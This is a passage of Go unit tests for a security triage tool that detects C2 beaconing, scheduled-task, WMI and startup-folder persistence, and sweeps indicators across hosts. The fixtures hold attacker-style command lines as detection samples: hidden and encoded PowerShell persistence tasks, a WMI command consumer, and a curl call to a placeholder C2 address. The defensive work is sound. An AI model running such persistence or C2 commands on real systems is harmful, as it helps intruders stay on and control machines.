	sys := &fakeSystems{col: &pdk.Collection{Network: chatter}, hosts: 1,
		dests: []pdk.Bucket{{Value: "52.98.152.2", Count: 5000}, {Value: "10.20.0.5", Count: 900}, {Value: "203.0.113.99", Count: 100},
			{Value: "198.51.100.1", Count: 3}, {Value: "198.51.100.2", Count: 40}, {Value: "198.51.100.3", Count: 30}, {Value: "198.51.100.4", Count: 20}},
		byDest: map[string][]pdk.Event{"203.0.113.99": beacon}}
	cfg := DefaultConfig()
	cfg.CollectLimit = 50
	out, err := Triage(sys, Input{Tenant: "acme", Host: "ACME-FS-09"}, cfg, t0)
	if err != nil {
		t.Fatal(err)
	}
	// Internal and rare-count destinations are skipped, and so is the
	// chatter the collection already shows; three are read.
	if want := []string{"203.0.113.99", "198.51.100.2", "198.51.100.3"}; !slices.Equal(sys.fetches, want) {
		t.Errorf("fetched %q, want %q", sys.fetches, want)
	}
	if len(out.Findings) != 1 || out.Findings[0].Rule != RuleBeaconing || out.Findings[0].Severity != pdk.SeverityHigh ||
		!strings.Contains(out.Findings[0].What, "203.0.113.99 (busy-c2.example.net)") {
		t.Errorf("findings = %+v", out.Findings)
	}
	if len(out.Notes) == 0 || !strings.Contains(strings.Join(out.Notes, "\n"), "whose timing was read") {
		t.Errorf("notes = %q", out.Notes)
	}
}

func TestTaskProcessFindings(t *testing.T) {
	tests := []struct {
		name, proc, parent, cmd string
		want                    string // severity or ""
	}{
		{"SchtasksPowerShell", "schtasks.exe", "powershell.exe", `schtasks.exe /create /sc onlogon /tn "OneDrive Sync" /tr "powershell -w hidden -File C:\Users\Public\s.ps1"`, "high"},
		{"SchtasksFromWord", "schtasks.exe", "WINWORD.EXE", `schtasks /Create /SC DAILY /TN upd /TR C:\ProgramData\upd.exe`, "high"},
		{"SchtasksPlain", "schtasks.exe", "cmd.exe", `schtasks /create /tn Backup /tr "C:\Program Files\Backup\agent.exe" /sc daily`, "medium"},
		{"RegisterScheduledTask", "powershell.exe", "explorer.exe", `powershell Register-ScheduledTask -TaskName Inventory -Action $a`, "medium"},
		{"SchtasksQuery", "schtasks.exe", "cmd.exe", `schtasks /query /fo LIST`, ""},
		{"SchtasksRun", "schtasks.exe", "cmd.exe", `schtasks /run /tn "\Microsoft\Windows\Defrag\ScheduledDefrag"`, ""},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			fs := taskProcessFindings(flatten([]*pdk.ProcessNode{node("1", tt.proc, tt.parent, tt.cmd)}))
			got := ""
			if len(fs) == 1 && fs[0].Rule == RuleScheduledTask {
				got = fs[0].Severity
			}
			if got != tt.want || len(fs) > 1 {
				t.Errorf("findings = %+v, want %q", fs, tt.want)
			}
		})
	}
}

func TestPersistenceFindings(t *testing.T) {
	taskXML := func(cmd, args string) string {
		return `<?xml version="1.0" encoding="UTF-16"?><Task><Actions Context="Author"><Exec><Command>` + cmd + `</Command><Arguments>` + args + `</Arguments></Exec></Actions></Task>`
	}
	startup := `C:\Users\hsato\AppData\Roaming\Microsoft\Windows\Start Menu\Programs\Startup\`
	tests := []struct {
		name    string
		ev      pdk.Event
		file    bool   // a file change of the collection, not a searched event
		want    string // rule/severity or ""
		whatHas string
	}{
		{"Task4698Encoded", pdk.Event{"event.code": "4698", "TaskName": `\OneDriveSync`, "SubjectUserName": "hsato",
			"TaskContent": taskXML("powershell.exe", "-w hidden -enc JABjAGwA")}, false, "scheduled-task-persistence/high", `\OneDriveSync created by hsato to run`},
		{"Task4698Escaped", pdk.Event{"event.code": "4698", "winlog.event_data.TaskName": `\Updater`,
			"winlog.event_data.TaskContent": "&lt;Task&gt;&lt;Exec&gt;&lt;Command&gt;C:\\Users\\Public\\u.exe&lt;/Command&gt;&lt;/Exec&gt;&lt;/Task&gt;"}, false, "scheduled-task-persistence/high", `u.exe`},
		{"Task4698Windows", pdk.Event{"event.code": "4698", "TaskName": `\Microsoft\Windows\UpdateOrchestrator\Schedule Scan`, "SubjectUserName": "SYSTEM",
			"TaskContent": taskXML(`C:\Windows\system32\usoclient.exe`, "StartScan")}, false, "scheduled-task-persistence/low", "usoclient.exe"},
		{"Task4698Vendor", pdk.Event{"event.code": "4698", "TaskName": `\Backup Agent`, "TaskContent": taskXML(`"C:\Program Files\Backup\agent.exe"`, "")}, false, "scheduled-task-persistence/medium", ""},
		{"WMIFilter", pdk.Event{"event.code": "19", "Operation": "Created", "Name": "Updater", "User": `ACME\hsato`,
			"Query": "SELECT * FROM __InstanceModificationEvent WITHIN 60 WHERE TargetInstance ISA 'Win32_PerfFormattedData_PerfOS_System'"}, false, "wmi-persistence/medium", "WMI event filter Updater created"},
		{"WMIConsumer", pdk.Event{"event.code": "20", "Operation": "Created", "Name": "Updater", "Type": "Command Line",
			"Destination": `powershell.exe -nop -enc JABjAGwA`}, false, "wmi-persistence/high", "(Command Line) created to run"},
		{"WMIBinding", pdk.Event{"event.code": "21", "Operation": "Created", "Consumer": `CommandLineEventConsumer.Name="Updater"`,
			"Filter": `__EventFilter.Name="Updater"`}, false, "wmi-persistence/high", `__EventFilter.Name="Updater" → CommandLineEventConsumer`},
		{"WMIDeleted", pdk.Event{"event.code": "20", "Operation": "Deleted", "Name": "Updater"}, false, "", ""},
		{"OtherEvent", pdk.Event{"event.code": "4624"}, false, "", ""},
		{"StartupScript", pdk.Event{"event.code": "11", "file.path": startup + "update.vbs", "process.name": "explorer.exe"}, true, "startup-folder-persistence/high", "update.vbs created by explorer.exe"},
		{"StartupShortcutByPowerShell", pdk.Event{"event.code": "11", "TargetFilename": startup + "OneDrive.lnk", "Image": `C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe`}, true, "startup-folder-persistence/high", ""},
		{"StartupShortcut", pdk.Event{"event.code": "11", "file.path": `C:\ProgramData\Microsoft\Windows\Start Menu\Programs\StartUp\Zoom.lnk`, "process.name": "msiexec.exe"}, true, "startup-folder-persistence/medium", ""},
		{"StartupDeleted", pdk.Event{"event.code": "23", "event.type": "deletion", "file.path": startup + "update.vbs"}, true, "", ""},
		{"StartMenuIsNotStartup", pdk.Event{"event.code": "11", "file.path": `C:\ProgramData\Microsoft\Windows\Start Menu\Programs\Zoom\Zoom.lnk`}, true, "", ""},
		{"TaskFileByPowerShell", pdk.Event{"event.code": "11", "file.path": `C:\Windows\System32\Tasks\OneDriveSync`, "process.name": "powershell.exe"}, true, "scheduled-task-persistence/high", "not by the Task Scheduler service"},
		{"TaskFileByScheduler", pdk.Event{"event.code": "11", "file.path": `C:\Windows\System32\Tasks\Backup Agent`, "process.name": "svchost.exe"}, true, "", ""},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			var fs []Finding
			if tt.file {
				fs = persistenceFindings(nil, []pdk.Event{tt.ev})
			} else {
				fs = persistenceFindings([]pdk.Event{tt.ev}, nil)
			}
			got := ""
			if len(fs) > 0 {
				got = fs[0].Rule + "/" + fs[0].Severity
				if len(fs[0].Evidence) != 1 {
					t.Errorf("evidence = %q", fs[0].Evidence)
				}
			}
			if got != tt.want || len(fs) > 1 {
				t.Fatalf("findings = %+v, want %s", fs, tt.want)
			}
			if tt.whatHas != "" && !strings.Contains(fs[0].What, tt.whatHas) {
				t.Errorf("what = %q, want it to hold %q", fs[0].What, tt.whatHas)
			}
		})
	}
}

func TestTriagePersistence(t *testing.T) {
	// 4698 and Sysmon 19–21 are searched for by code; events of another
	// host sharing the name's prefix are dropped.
	sys := &fakeSystems{col: &pdk.Collection{Files: []pdk.Event{{"_id": "f1", "event.code": "11", "host.name": "ACME-WS-017",
		"file.path": `C:\Users\hsato\AppData\Roaming\Microsoft\Windows\Start Menu\Programs\Startup\upd.bat`, "process.name": "powershell.exe"}}},
		persist: []pdk.Event{
			{"_id": "e1", "event.code": "4698", "host.name": "ACME-WS-017.acme.local", "TaskName": `\Upd`, "TaskContent": `<Command>cmd.exe /c C:\Users\Public\u.bat</Command>`},
			{"_id": "e2", "event.code": "21", "host.name": "acme-ws-017", "Operation": "Created", "Consumer": "c", "Filter": "f"},
			{"_id": "e3", "event.code": "20", "host.name": "ACME-WS-0170", "Operation": "Created", "Name": "other host", "Destination": "x"},
		}}
	out, err := Triage(sys, Input{Tenant: "acme", Host: "ACME-WS-017"}, DefaultConfig(), t0)
	if err != nil {
		t.Fatal(err)
	}
	var rules []string
	for _, f := range out.Findings {
		rules = append(rules, f.Rule+"/"+f.Severity)
		if strings.Contains(f.What, "other host") {
			t.Errorf("another host's event flagged: %s", f.What)
		}
	}
	want := []string{"scheduled-task-persistence/high", "startup-folder-persistence/high", "wmi-persistence/high"}
	if !slices.Equal(rules, want) {
		t.Errorf("findings = %q, want %q", rules, want)
	}
	if out.Counts["persistence"] != 2 {
		t.Errorf("counts = %v", out.Counts)
	}
}

func TestSweep(t *testing.T) {
	c2, hash := "203.0.113.66", strings.Repeat("9f", 32)
	ticket := &pdk.Ticket{ID: "T-1", Tenant: "acme", Observables: []pdk.Observable{
		{Type: pdk.ObservableHost, Value: "ACME-WS-017"}, {Type: pdk.ObservableIP, Value: "10.20.1.17"},
		{Type: pdk.ObservableIP, Value: c2}, {Type: pdk.ObservableDomain, Value: "Update.Example.NET"}}}
	sws := sweepIndicators([]string{c2, hash}, ticket)
	var got []string
	for _, sw := range sws {
		got = append(got, sw.Source+":"+sw.Type+":"+sw.Query)
	}
	// The private address and the host are not swept; the C2 is swept once.
	if want := []string{`config:ip:"203.0.113.66"`, `config:hash:"` + hash + `"`, `ticket:domain:"update.example.net"`}; !slices.Equal(got, want) {
		t.Fatalf("indicators = %q, want %q", got, want)
	}

	sys := &fakeSystems{text: []pdk.Event{
		{"_id": "a", "host.name": "ACME-WS-017", "destination.ip": c2},
		{"_id": "b", "host.name": "ACME-WS-017", "destination.ip": c2},
		{"_id": "c", "host.name": "ACME-WS-040", "destination.ip": c2},
		{"_id": "d", "host.name": "ACME-WS-041", "destination.ip": "203.0.113.666"}, // not the address
		{"_id": "e", "host.name": "ACME-WS-042", "url.domain": "cdn.update.example.net"},
		{"_id": "f", "host.name": "ACME-WS-017", "process.hash.sha256": hash},
		// Proxy logs: the client's address, the host's or another's.
		{"_id": "g", "source.ip": "10.20.1.17", "url.full": "https://" + c2 + "/a"},
		{"_id": "h", "source.ip": "10.20.1.40", "url.full": "https://" + c2 + "/a"},
		{"_id": "i", "message": "denied " + c2},
	}}
	sws = sweep(sys, "acme", "ACME-WS-017", []string{"10.20.1.17"}, sws, t0, t0.Add(time.Hour), func(string, ...any) {})
	if len(sys.searches) != 3 {
		t.Errorf("searches = %q", sys.searches)
	}
	if sws[0].Events != 6 || fmt.Sprint(sws[0].Hosts) != "[{ACME-WS-017 3} {(no host or source address) 1} {10.20.1.40 1} {ACME-WS-040 1}]" {
		t.Errorf("C2 sweep = %+v", sws[0])
	}
	fs := sweepFindings(sws, "ACME-WS-017")
	var rules []string
	for _, f := range fs {
		rules = append(rules, f.Rule+"/"+f.Severity+": "+f.What)
	}
	want := []string{
		"ioc-match/high: Known indicator 203.0.113.66 (ip, config iocs) also seen on other hosts: 2 events",
		"indicator-elsewhere/medium: The ticket's indicator update.example.net (domain) also seen on other hosts: 1 events",
	}
	if !slices.Equal(rules, want) {
		t.Errorf("findings = %q, want %q", rules, want)
	}
	if !strings.Contains(fs[0].Evidence[0], "ACME-WS-040 (1)") || strings.Contains(fs[0].Evidence[0], "ACME-WS-017") || strings.Contains(fs[0].Evidence[0], "no host") {
		t.Errorf("evidence = %q", fs[0].Evidence)
	}
	// Triaged from another host, a known indicator it never saw is no
	// finding about it.
	if fs := sweepFindings(sweep(sys, "acme", "ACME-WS-099", nil, sweepIndicators([]string{c2}, nil), t0, t0.Add(time.Hour), func(string, ...any) {}), "ACME-WS-099"); len(fs) != 0 {
		t.Errorf("findings on a host that never saw the indicator: %+v", fs)
	}
	// The host's own events of the config's indicators feed ioc-match when
	// the collection lacks them.
	col := &pdk.Collection{Network: []pdk.Event{{"_id": "a"}}}
	var ids []string
	for _, e := range sweptOnHost(sws, col) {
		ids = append(ids, e.ID())
	}
	if !slices.Equal(ids, []string{"b", "g", "f"}) {
		t.Errorf("swept events on the host = %q", ids)
	}
	// A hash only the process event holds (the tree has none) is found
	// through the sweep; an event the tree and the sweep both hold counts
	// once.
	procs := flatten([]*pdk.ProcessNode{{PID: "7", Name: "curl.exe", CommandLine: "curl http://" + c2 + "/x", EventID: "p"}})
	extra := append(sweptOnHost(sws, col), pdk.Event{"_id": "p", "process.command_line": "curl http://" + c2 + "/x"})
	got = nil
	for _, f := range iocFindings([]string{c2, hash}, col, procs, extra) {
		got = append(got, f.What)
	}
	if want := []string{"Known indicator 203.0.113.66 (ip, config iocs) seen 3 times", "Known indicator " + hash + " (hash, config iocs) seen 1 times"}; !slices.Equal(got, want) {
		t.Errorf("ioc findings = %q, want %q", got, want)
	}
}
